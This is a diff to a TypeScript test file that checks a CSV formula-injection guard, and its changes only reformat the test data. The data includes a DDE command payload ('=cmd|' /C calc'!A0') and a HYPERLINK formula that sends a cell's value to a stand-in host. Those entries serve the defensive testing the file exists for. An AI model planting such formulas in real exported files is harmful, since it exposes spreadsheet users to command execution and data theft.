@@ -16,7 +16,7 @@ const GUARDED: readonly (readonly [string, string])[] = [
   ['\rcell', "'\rcell"],
   ['\ncell', "'\ncell"],
   ['\r\ncell', "'\r\ncell"],
-  ['=cmd|\' /C calc\'!A0', "'=cmd|' /C calc'!A0"],
+  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
   ['=HYPERLINK("http://a.example/?x="&A1,"open")', `'=HYPERLINK("http://a.example/?x="&A1,"open")`],
   [' =1', "' =1"],
   ['  +1', "'  +1"],
@@ -50,13 +50,24 @@ const GUARDED: readonly (readonly [string, string])[] = [
   ['beans\t=1', "beans\t'=1"],
 ];
 
-const LEFT_ALONE = ['', 'beans', 'a=b', 'a - b', 'ING-2026-0117', '1 + 1', 'mail@example.org', 'two\nlines', '咖啡', "d'Or"];
+const LEFT_ALONE = [
+  '',
+  'beans',
+  'a=b',
+  'a - b',
+  'ING-2026-0117',
+  '1 + 1',
+  'mail@example.org',
+  'two\nlines',
+  '咖啡',
+  "d'Or",
+];
 
 test('forty texts that a spreadsheet would run are guarded, and read back as they are guarded', () => {
   expect(GUARDED).toHaveLength(40);
   expect(GUARDED.map(([text]) => guardText(text))).toEqual(GUARDED.map(([, guarded]) => guarded));
   const table = GUARDED.map(([text]) => csvLine([text, 1, null])).join('');
-  const read = parse(table, { record_delimiter: '\r\n' }) as unknown as string[][];
+  const read = parse(table, { record_delimiter: '\r\n' });
   expect(read).toEqual(GUARDED.map(([, guarded]) => [guarded, '1', '']));
   report('S11', { 'texts that a spreadsheet would run': GUARDED.length });
 });
